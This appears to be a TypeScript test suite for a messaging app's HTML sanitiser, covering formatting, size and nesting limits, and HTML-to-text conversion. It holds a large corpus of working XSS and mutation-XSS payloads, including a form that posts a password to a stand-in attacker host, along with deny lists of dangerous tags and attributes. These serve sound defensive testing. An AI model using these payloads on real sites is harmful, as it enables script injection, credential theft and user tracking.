import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AppError } from '@/lib/errors/app-error';
import {
  MAX_BODY_BYTES,
  MAX_NESTING_DEPTH,
  MessageBodyTooComplexError,
  MessageBodyTooLargeError,
  htmlToText,
  sanitizeMessageHtml,
  textToHtml,
} from './sanitize';

/**
 * XSS / remote-resource corpus. Each entry is [label, input]. Sources: the OWASP XSS filter
 * evasion cheat sheet, the html5sec.org vectors, and the sanitize-html advisories fixed after the
 * pinned 2.17.5 (see the header of sanitize.ts) — those must be harmless with our allow-list.
 */
const XSS_CORPUS: [string, string][] = [
  // Scripts
  ['classic script', '<script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['uppercase script', '<SCRIPT>alert(1)</SCRIPT>'],
  ['mixed-case script with attributes', '<ScRiPt type="text/javascript">alert(1)</sCrIpT>'],
  ['unclosed script', '<script>alert(1)'],
  ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script after comment trick', '<!--><script>alert(1)</script>-->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['CDATA in HTML', '<![CDATA[<script>alert(1)</script>]]>'],
  ['null byte in tag name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['null byte before script', '\u0000<script>alert(1)</script>'],
  // Event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror quoted', '<img src="x" onerror="alert(1)">'],
  ['img onerror uppercase', '<IMG SRC=x ONERROR=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg slash onload', '<svg/onload=alert(1)>'],
  ['body onload', '<body onload=alert(1)>hello</body>'],
  ['onmouseover on allowed tag', '<p onmouseover="alert(1)">hover</p>'],
  ['onclick on link', '<a href="https://example.com" onclick="alert(1)">x</a>'],
  ['unquoted handler on allowed tag', '<b onclick=alert(1)>bold</b>'],
  ['handler with slash separator', '<b/onclick=alert(1)>bold</b>'],
  ['handler in nested quotes', `<div title="a'b" onclick='alert("x")'>q</div>`],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video onerror', '<video><source onerror="alert(1)"></video>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['tab before handler', '<p\tonclick=alert(1)>x</p>'],
  // javascript:/vbscript:/data: URLs, obfuscated
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['javascript href mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['javascript href leading space', '<a href="  javascript:alert(1)">x</a>'],
  ['javascript href tab in scheme', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript href newline in scheme', '<a href="java\nscript:alert(1)">x</a>'],
  ['javascript href entity tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript href decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['javascript href padded decimal entities', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ['javascript href hex entities', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
  ['javascript href named colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['javascript href leading control char', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['javascript href null byte', '<a href="java\u0000script:alert(1)">x</a>'],
  ['javascript href unquoted', '<a href=javascript:alert(1)>x</a>'],
  ['javascript href backticks', '<a href=`javascript:alert(1)`>x</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data href mixed case with whitespace', '<a href=" DaTa:text/html,<script>alert(1)</script>">x</a>'],
  ['protocol-relative href', '<a href="//evil.example/x">x</a>'],
  ['relative href', '<a href="/secure/messages/delete?all=1">x</a>'],
  ['javascript in cite', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
  // Embedding and navigation
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['iframe javascript src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object data', '<object data="https://evil.example/x.swf"></object>'],
  ['object javascript data', '<object data="javascript:alert(1)"><param name=x value=y></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['form action', '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['input formaction', '<input type=submit formaction=javascript:alert(1)>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh data url', '<meta http-equiv="refresh" content="0; URL=data:text/html,<script>alert(1)</script>">'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['link import', '<link rel="import" href="https://evil.example/x.html">'],
  // CSS
  ['style import', '<style>@import url(https://evil.example/x.css);</style>'],
  ['style expression', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['style attribute background url', '<p style="background:url(https://evil.example/pixel.gif)">x</p>'],
  ['style attribute expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style attribute escaped url', '<div style="background-image: u\\72 l(https://evil.example/p)">x</div>'],
  ['class attribute', '<p class="fixed-overlay">x</p>'],
  // Remote resources
  ['tracking pixel', '<img src="https://tracker.example/open?id=123" width="1" height="1">'],
  ['data image', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
  ['srcset', '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">'],
  ['picture source srcset', '<picture><source srcset="https://evil.example/a.png"><img src="x"></picture>'],
  ['table background', '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>'],
  ['td background', '<table><tr><td background="https://evil.example/bg.png">x</td></tr></table>'],
  ['audio src', '<audio src="https://evil.example/a.mp3" autoplay></audio>'],
  ['video poster', '<video poster="https://evil.example/p.png"></video>'],
  ['input image', '<input type="image" src="https://evil.example/p.png">'],
  // Namespaces and mutation XSS
  ['svg xlink href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'],
  ['a with xlink:href', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate href (CVE-2026-84371)', '<svg><a><animate attributeName="href" values="#x;javascript:alert(1)"/><text>x</text></a></svg>'],
  ['svg use', '<svg><use href="https://evil.example/x.svg#a"/></svg>'],
  ['math href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['math mtext mXSS', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ['svg style mXSS', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['noscript early close (GHSA-x3q4-9hxx-gx8m)', '<div><noscript></div><img src=x onerror=alert(1)></noscript></div>'],
  ['template mXSS', '<template><img src=x onerror=alert(1)></template>'],
  ['textarea solidus close (CVE-2026-63670)', '<textarea></textarea/><img src=x onerror=alert(1)></textarea>'],
  ['xmp passthrough (CVE-2026-44990)', '<xmp><script>alert(1)</script></xmp>'],
  ['svg textarea foreign content', '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>'],
  ['title raw text', '<title><img src=x onerror=alert(1)></title>'],
  ['option entity payload', '<select><option>&lt;script&gt;alert(1)&lt;/script&gt;</option></select>'],
  ['comment hiding markup', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['bogus comment', '<? foo="><script>alert(1)</script>">'],
  ['unclosed tag swallowing', '<img src=x onerror=alert(1)//'],
  ['unclosed attribute quote', '<a href="https://example.com>x</a><script>alert(1)</script>'],
  ['attribute without quotes and entity', '<a href=java&#115;cript:alert(1)>x</a>'],
  ['double-encoded entities', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['plaintext', '<plaintext><script>alert(1)</script>'],
  ['nesting at the depth limit', `${'<div>'.repeat(500)}x${'</div>'.repeat(500)}<img src=x onerror=alert(1)>`],
  ['unclosed nesting at the depth limit', `${'<b><i>'.repeat(250)}<img src=x onerror=alert(1)>`],
  ['full document', '<html><head><title>t</title><style>p{}</style><script>alert(1)</script></head><body onload=alert(1)><p>Hello</p></body></html>'],
];

const ALLOWED_TAGS = new Set([
  'p', 'br', 'b', 'strong', 'i', 'em', 'u', 's', 'blockquote', 'ul', 'ol', 'li', 'a',
  'h1', 'h2', 'h3', 'h4', 'pre', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr',
  'span', 'div',
]);
const ALLOWED_ATTRIBUTES: Record<string, Set<string>> = {
  a: new Set(['href', 'rel', 'target']),
  th: new Set(['colspan', 'rowspan']),
  td: new Set(['colspan', 'rowspan']),
};

const FORBIDDEN_TAG_OPENINGS = [
  '<script', '<img', '<iframe', '<object', '<embed', '<svg', '<math', '<style', '<link', '<meta',
  '<base', '<form', '<input', '<button', '<textarea', '<noscript', '<template', '<xmp', '<title',
  '<video', '<audio', '<source', '<picture', '<plaintext',
];
/**
 * Strings that must not appear anywhere in the output of the curated corpus — not even as text.
 * (The corpus only carries them in markup, so any survivor means something leaked. Generated
 * input below can legitimately put them in text, so it gets the structural check only.)
 */
const FORBIDDEN_ANYWHERE = [
  'javascript:', 'vbscript:', 'data:', 'style=', 'src=', 'srcset=', 'formaction', 'xlink:',
  'background=', 'poster=', 'class=',
];

/** Every way the output could still be dangerous, as readable failure messages (empty = safe). */
function problems(output: string, { textMayMentionAttacks = false } = {}): string[] {
  const found: string[] = [];
  const lower = output.toLowerCase();
  // Text `<` is always escaped, so these can only be live tags, even for generated input.
  for (const needle of FORBIDDEN_TAG_OPENINGS) {
    if (lower.includes(needle)) found.push(`contains ${needle}`);
  }
  if (/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/.test(output)) found.push('contains a control character');
  if (!textMayMentionAttacks) {
    for (const needle of FORBIDDEN_ANYWHERE) {
      if (lower.includes(needle)) found.push(`contains ${needle}`);
    }
    if (/\son[a-z]+\s*=/i.test(output)) found.push('contains an on…= attribute');
  }

  // Structural check: every tag is allow-listed, with allow-listed attributes only, every href
  // absolute http/https/mailto. The sanitiser's output only has `<` at tag starts, so a regex
  // tokenizer is exact; anything it cannot read as a tag is itself a failure.
  for (const m of output.matchAll(/<[^>]*>?/g)) {
    const tag = /^<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>$/.exec(m[0]);
    if (!tag) {
      found.push(`unexpected markup ${m[0]}`);
      continue;
    }
    const [, name, attrs] = tag;
    if (!ALLOWED_TAGS.has(name)) found.push(`tag <${name}>`);
    for (const attr of attrs.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      const [, attrName, value] = attr;
      if (!ALLOWED_ATTRIBUTES[name]?.has(attrName)) found.push(`attribute ${attrName} on <${name}>`);
      if (attrName === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`href ${value}`);
      if (attrName === 'target' && value !== '_blank') found.push(`target ${value}`);
      if (attrName === 'rel' && value !== 'noopener noreferrer nofollow') found.push(`rel ${value}`);
    }
  }
  return found;
}

describe('sanitizeMessageHtml: XSS and remote-resource corpus', () => {
  it('has a substantial corpus', () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS_CORPUS)('%s', (_label, input) => {
    const output = sanitizeMessageHtml(input);
    expect(problems(output), output).toEqual([]);
    // Idempotent: re-sanitising the stored form changes nothing, so the stored HTML is a fixed
    // point and re-parsing cannot surface anything new (the signature of mutation XSS).
    expect(sanitizeMessageHtml(output)).toBe(output);
  });

  it('a generated mix of tags, attributes and junk never yields anything unsafe', () => {
    const piece = fc.constantFrom(
      '<', '>', '/', '"', "'", '=', ' ', '\t', '\n', '&', '#', ';', '\u0000', '<!--', '-->',
      'script', 'img', 'svg', 'a', 'p', 'b', 'td', 'style', 'iframe', 'textarea', 'noscript', 'math',
      ' href=', ' src=', ' onerror=', ' style=', 'javascript:', 'java&#x09;script:', 'data:', 'alert(1)',
      'https://example.com/', 'x', '&lt;', '&#60;', '</', '/>',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const output = sanitizeMessageHtml(pieces.join(''));
        expect(problems(output, { textMayMentionAttacks: true }), output).toEqual([]);
        expect(sanitizeMessageHtml(output)).toBe(output);
      }),
      { numRuns: 500 },
    );
  });
});

describe('sanitizeMessageHtml: ordinary formatting survives', () => {
  it('keeps inline formatting', () => {
    const html = '<p>Hello <b>bold</b> <strong>strong</strong> <i>i</i> <em>em</em> <u>u</u> <s>s</s> <code>x()</code></p>';
    expect(sanitizeMessageHtml(html)).toBe(html);
  });

  it('keeps headings, lists, quotes, pre, rules and line breaks', () => {
    const html =
      '<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4>' +
      '<ul><li>a</li><li>b</li></ul><ol><li>first</li></ol>' +
      '<blockquote><p>quoted</p></blockquote><pre>  indented\n  code</pre><hr />' +
      '<div>line<br />break <span>span</span></div>';
    expect(sanitizeMessageHtml(html)).toBe(html);
  });

  it('adds rel and target to links and keeps http, https and mailto', () => {
    expect(sanitizeMessageHtml('<a href="https://example.com/path?q=1&amp;r=2">site</a>')).toBe(
      '<a href="https://example.com/path?q=1&amp;r=2" rel="noopener noreferrer nofollow" target="_blank">site</a>',
    );
    expect(sanitizeMessageHtml('<a href="http://example.com">x</a>')).toBe(
      '<a href="http://example.com/" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(sanitizeMessageHtml('<a href="mailto:someone@example.com">mail</a>')).toBe(
      '<a href="mailto:someone@example.com" rel="noopener noreferrer nofollow" target="_blank">mail</a>',
    );
  });

  it("replaces a sender's own rel and target", () => {
    expect(sanitizeMessageHtml('<a target="_self" rel="opener" href="https://example.com/">x</a>')).toBe(
      '<a href="https://example.com/" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });

  it('turns a link with a refused destination into plain text', () => {
    expect(sanitizeMessageHtml('<p><a href="javascript:alert(1)">click</a></p>')).toBe('<p><span>click</span></p>');
    expect(sanitizeMessageHtml('<a>no href</a>')).toBe('<span>no href</span>');
  });

  it('keeps tables with numeric colspan and rowspan only', () => {
    const html =
      '<table><thead><tr><th colspan="2">Head</th></tr></thead>' +
      '<tbody><tr><td rowspan="2">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>';
    expect(sanitizeMessageHtml(html)).toBe(html);
    expect(sanitizeMessageHtml('<table><tr><td colspan="x" rowspan="0" width="9" align="left">a</td></tr></table>')).toBe(
      '<table><tr><td>a</td></tr></table>',
    );
  });

  it('keeps the text of removed elements but drops script and style content', () => {
    expect(sanitizeMessageHtml('<font color="red">red</font> <center>c</center><script>x()</script><style>p{}</style>')).toBe(
      'red c',
    );
  });

  it('keeps non-ASCII text and escapes markup characters in text', () => {
    expect(sanitizeMessageHtml('<p>Grüße — 東京 😀 1 &lt; 2 &amp; 3 &gt; 2 "q"</p>')).toBe(
      '<p>Grüße — 東京 😀 1 &lt; 2 &amp; 3 &gt; 2 "q"</p>',
    );
  });
});

function captureError(run: () => unknown): unknown {
  try {
    run();
  } catch (e) {
    return e;
  }
  throw new Error('expected a throw');
}

describe('sanitizeMessageHtml: size limit', () => {
  it('accepts a body of exactly MAX_BODY_BYTES', () => {
    expect(MAX_BODY_BYTES).toBe(1024 * 1024);
    const body = 'a'.repeat(MAX_BODY_BYTES);
    expect(sanitizeMessageHtml(body)).toBe(body);
  });

  it('refuses one byte more with a clear invalid_input error', () => {
    const run = () => sanitizeMessageHtml('a'.repeat(MAX_BODY_BYTES + 1));
    expect(run).toThrow(MessageBodyTooLargeError);
    expect(run).toThrow('The message is too long: the limit is 1 MB. Shorten it or send the content as an attachment.');
    const error = captureError(run);
    expect(error).toBeInstanceOf(AppError);
    expect(error).toMatchObject({ code: 'invalid_input', bytes: MAX_BODY_BYTES + 1, fieldErrors: { body: [expect.stringMatching(/limit is 1 MB/)] } });
  });

  it('counts UTF-8 bytes, not characters', () => {
    // 'é' is two bytes: just over half a MiB of them is over the limit.
    expect(() => sanitizeMessageHtml('é'.repeat(MAX_BODY_BYTES / 2 + 1))).toThrow(MessageBodyTooLargeError);
    expect(() => sanitizeMessageHtml('é'.repeat(MAX_BODY_BYTES / 2))).not.toThrow();
  });

  it('refuses a huge input quickly', () => {
    expect(() => sanitizeMessageHtml('<b>'.repeat(10 * MAX_BODY_BYTES))).toThrow(MessageBodyTooLargeError);
  });
});

describe('sanitizeMessageHtml: nesting limit', () => {
  // htmlparser2's cost grows with depth × tags; these inputs took seconds to minutes before the
  // limit. (No timing assertions: the point is that they are refused before parsing.)
  it('refuses pathological nesting with a clear invalid_input error', () => {
    for (const input of [
      '<b>'.repeat(Math.floor(MAX_BODY_BYTES / 3)),
      '<div>'.repeat(MAX_NESTING_DEPTH + 1),
      '<p><li>'.repeat(MAX_NESTING_DEPTH),
      `${'<span>'.repeat(MAX_NESTING_DEPTH + 1)}${'</x>'.repeat(1000)}`,
    ]) {
      expect(() => sanitizeMessageHtml(input)).toThrow(MessageBodyTooComplexError);
    }
    expect(() => sanitizeMessageHtml('<div>'.repeat(MAX_NESTING_DEPTH + 1))).toThrow(/nested too deeply/);
    expect(new MessageBodyTooComplexError()).toMatchObject({ code: 'invalid_input', fieldErrors: { body: [expect.any(String)] } });
  });

  it('does not count sloppy but shallow HTML as nesting', () => {
    const sloppy =
      '<p>one<p>two'.repeat(2000) +
      '<ul>' + '<li>item'.repeat(2000) + '</ul>' +
      '<table>' + '<tr><td>a<td>b'.repeat(2000) + '</table>' +
      '<div><b>closed</b></div>'.repeat(2000) +
      '<br><hr><img src=x>'.repeat(2000);
    expect(() => sanitizeMessageHtml(sloppy)).not.toThrow();
  });

  it('accepts a long quoted reply chain', () => {
    const chain = '<blockquote><div><p>reply</p>'.repeat(100) + '</div></blockquote>'.repeat(100);
    expect(sanitizeMessageHtml(chain)).toContain('<blockquote><div><p>reply</p><blockquote>');
  });
});

describe('htmlToText', () => {
  it('turns block elements into line breaks and collapses whitespace', () => {
    expect(htmlToText('<h1>Title</h1><p>First   paragraph\n  wraps</p><p>Second<br>line</p><div>a</div><div>b</div>')).toBe(
      'Title\n\nFirst paragraph wraps\n\nSecond\nline\n\na\nb',
    );
  });

  it('decodes entities', () => {
    expect(htmlToText('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &quot;q&quot; &#39;s&#x27; caf&eacute;&nbsp;ok</p>')).toBe(
      `1 < 2 && 3 > 2 "q" 's' café ok`,
    );
  });

  it('writes links as text (url)', () => {
    expect(htmlToText('<p>See <a href="https://example.com/doc">the doc</a>.</p>')).toBe('See the doc (https://example.com/doc).');
    expect(htmlToText('<a href="https://example.com/">https://example.com/</a>')).toBe('https://example.com/');
    expect(htmlToText('<a href="mailto:a@example.com">a@example.com</a>')).toBe('a@example.com');
    expect(htmlToText('<a href="javascript:alert(1)">x</a>')).toBe('x');
  });

  it('renders lists, tables and quotes readably', () => {
    expect(htmlToText('<p>Items:</p><ul><li>one</li><li>two</li></ul><table><tr><th>k</th><th>v</th></tr><tr><td>a</td><td>1</td></tr></table><blockquote>quoted</blockquote>')).toBe(
      'Items:\n\n- one\n- two\n\nk v\na 1\n\nquoted',
    );
  });

  it('keeps the line structure of pre', () => {
    expect(htmlToText('<pre>line 1\nline 2</pre>')).toBe('line 1\nline 2');
  });

  it('drops script and style content and all markup', () => {
    expect(htmlToText('<style>p{color:red}</style><script>alert(1)</script><p>safe<img src=x onerror=alert(1)></p>')).toBe('safe');
  });

  it('is empty for empty input', () => {
    expect(htmlToText('')).toBe('');
    expect(htmlToText('<p> </p><br>')).toBe('');
  });
});

describe('textToHtml', () => {
  it('makes web addresses links, leaving the sentence around them as it was', () => {
    expect(textToHtml('See https://example.com/a?b=1&c=2. Or (http://x.example/wiki/Foo_(bar)), thanks')).toBe(
      '<p>See <a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">https://example.com/a?b=1&amp;c=2</a>. ' +
        'Or (<a href="http://x.example/wiki/Foo_(bar)" rel="noopener noreferrer nofollow" target="_blank">http://x.example/wiki/Foo_(bar)</a>), thanks</p>',
    );
    // Not a web address, or one whose normal form reads differently: text.
    expect(textToHtml('javascript:alert(1) ftp://x.example HTTPS://X.EXAMPLE')).toBe('<p>javascript:alert(1) ftp://x.example HTTPS://X.EXAMPLE</p>');
  });

  it('escapes and builds paragraphs and line breaks', () => {
    expect(textToHtml('Hello <b>world</b> & co\nnext line\n\nNew paragraph\r\n\r\n\r\nThird')).toBe(
      '<p>Hello &lt;b&gt;world&lt;/b&gt; &amp; co<br />next line</p><p>New paragraph</p><p>Third</p>',
    );
  });

  it('is empty for blank text', () => {
    expect(textToHtml('')).toBe('');
    expect(textToHtml(' \n\n \n')).toBe('');
  });

  it('quotes hostile text inertly', () => {
    const html = textToHtml('<script>alert(1)</script> <img src=x onerror=alert(1)>');
    expect(html).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;</p>');
    expect(sanitizeMessageHtml(html)).toBe(html);
  });

  /** What htmlToText(textToHtml(t)) should give: the same text with whitespace normalised. */
  function normaliseText(text: string): string {
    return text
      .replace(/\r\n?/g, '\n')
      .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F\ue000-\ue002]/g, '')
      .split(/\n[^\S\n]*\n\s*/)
      .map((para) =>
        para
          .split('\n')
          .map((line) => line.replace(/[ \t\u00a0]+/g, ' ').trim())
          .filter((line) => line !== '')
          .join('\n'),
      )
      .filter((para) => para !== '')
      .join('\n\n');
  }

  it('round-trips through htmlToText and is a fixed point of the sanitiser', () => {
    const char = fc.constantFrom(
      'a', 'Z', '0', ' ', ' ', '\t', '\n', '\n', '\r\n', '<', '>', '&', '"', "'", ';', '#', 'x', '-',
      'é', '東', '😀', '\u00a0', '&amp;', '&lt;', '<p>', '</b>', 'javascript:', '\u0000',
      'https://', 'http://', 'example.com', '/a?b=1&c=2', '(', ')', '.', 'HTTPS://X.Y', '%41',
    );
    fc.assert(
      fc.property(fc.array(char, { maxLength: 80 }), (chars) => {
        const text = chars.join('');
        const html = textToHtml(text);
        expect(sanitizeMessageHtml(html)).toBe(html);
        expect(htmlToText(html)).toBe(normaliseText(text));
      }),
      { numRuns: 1000 },
    );
  });
});
